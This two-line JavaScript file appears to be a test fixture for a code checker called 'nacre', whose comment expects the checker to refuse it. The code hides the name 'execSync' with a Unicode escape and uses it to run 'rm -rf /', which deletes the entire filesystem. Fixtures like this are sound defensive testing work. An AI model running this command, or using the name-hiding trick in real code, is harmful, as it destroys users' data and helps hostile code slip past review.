// nacre: refused code.hidden-name file.destroy
require('child_process').ex\u{000065}cSync('rm -rf /');
